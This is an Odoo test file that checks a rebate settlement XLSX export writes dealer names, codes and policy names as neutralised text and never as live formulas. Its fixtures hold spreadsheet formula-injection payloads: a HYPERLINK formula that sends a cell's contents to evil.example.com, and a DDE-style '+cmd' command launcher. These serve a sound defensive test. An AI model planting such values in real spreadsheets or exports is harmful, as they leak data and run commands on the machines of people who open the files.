import io

import openpyxl

from odoo.tests import tagged

from .common import DealerRebateCommon

# what an attacker types as a store or dealer name: a live link leaking the next cell
FORMULA_NAME = '=HYPERLINK("http://evil.example.com/?leak="&B4,"点击核对对账单")'


@tagged("post_install", "-at_install")
class TestSettlementExport(DealerRebateCommon):
    """The settlement XLSX writes the values users typed as text, never as formulas."""

    def test_formula_like_values_are_text(self):
        tier = self.env["dealer.tier"].create({"name": "@SUM(1+1)*cmd", "code": "RBT_FORMULA"})
        dealer = self._create_dealer(FORMULA_NAME, tier=tier, state=self.zj)
        dealer.dealer_code = "+cmd|' /C calc'!A0"
        self._invoice(dealer, "2025-04-15", [(self.shredder, 10, 200.0)])
        policy = self._policy(name="-1+1 返利政策", partner_ids=[(6, 0, dealer.ids)])
        settlement = self._settle(policy, "2025-04-01", "2025-06-30")
        self.assertEqual(settlement.line_ids.partner_id, dealer)
        sheet = openpyxl.load_workbook(io.BytesIO(settlement._get_xlsx())).active
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        self.assertFalse([cell.coordinate for cell in cells if cell.data_type == "f"], "no formula in the file")
        texts = {cell.value for cell in cells if cell.data_type == "s"}
        for value in (FORMULA_NAME, "@SUM(1+1)*cmd", "+cmd|' /C calc'!A0", "-1+1 返利政策"):
            self.assertIn("'" + value, texts, "text, neutralized for re-typing")
        self.assertNotIn(FORMULA_NAME, {str(cell.value) for cell in cells})
        self.assertIn(2000.0, [cell.value for cell in cells if cell.data_type == "n"], "amounts stay numbers")
